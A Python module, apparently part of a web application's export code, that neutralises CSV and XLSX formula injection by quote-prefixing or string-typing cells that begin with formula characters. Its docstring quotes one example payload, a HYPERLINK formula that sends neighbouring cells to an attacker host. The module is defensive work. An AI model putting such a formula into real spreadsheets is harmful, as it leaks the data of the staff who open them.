"""What people wrote, put into the spreadsheets staff download, never runs there as a formula
(CSV or formula injection). A citizen's text, a title, tags, a location, a unit's or a
forwarding agency's name that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is
what Excel and LibreOffice take for a formula: `=HYPERLINK("http://evil.example/?d="&J3,...)`
in a report would send its neighbouring cells to whoever wrote it when staff click it.

The rule is here once, for the inbox's CSV and XLSX exports (admin/exports.py,
jobs/exports.py) and the monitoring CSV (admin/monitoring.py):

- in a CSV, such text gets a single quote in front (OWASP's advice): spreadsheets show it as
  text, and a reader sees at once that it was not ours;
- in an XLSX file it is written as a string cell, exactly as written, marked like text typed
  after a quote, so that editing the cell later does not turn it into a formula either.

Numbers and dates are left as they are, and so is every other text."""

from __future__ import annotations

from typing import Any

FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")


def starts_like_formula(text: str) -> bool:
    return text.startswith(FORMULA_LEADS)


def csv_cell(value: Any) -> Any:
    """One cell of a CSV row: nothing for None, a leading quote for text that starts like a
    formula, anything else unchanged."""
    if value is None:
        return ""
    if isinstance(value, str) and starts_like_formula(value):
        return "'" + value
    return value


def xlsx_row(sheet: Any, values: list[Any]) -> list[Any]:
    """A row for `sheet`, an openpyxl write-only worksheet. openpyxl stores text starting with
    `=` as a formula and an error's name (`#N/A`) as that error: such text, and any other that
    starts like a formula, becomes a cell of its own that holds it as a string."""
    from openpyxl.cell import WriteOnlyCell  # imported here: only export jobs need it
    from openpyxl.cell.cell import ERROR_CODES

    row: list[Any] = []
    for value in values:
        if isinstance(value, str) and (starts_like_formula(value) or value in ERROR_CODES):
            cell = WriteOnlyCell(sheet, value)
            cell.data_type = "s"
            cell.quotePrefix = True
            row.append(cell)
        else:
            row.append(value)
    return row
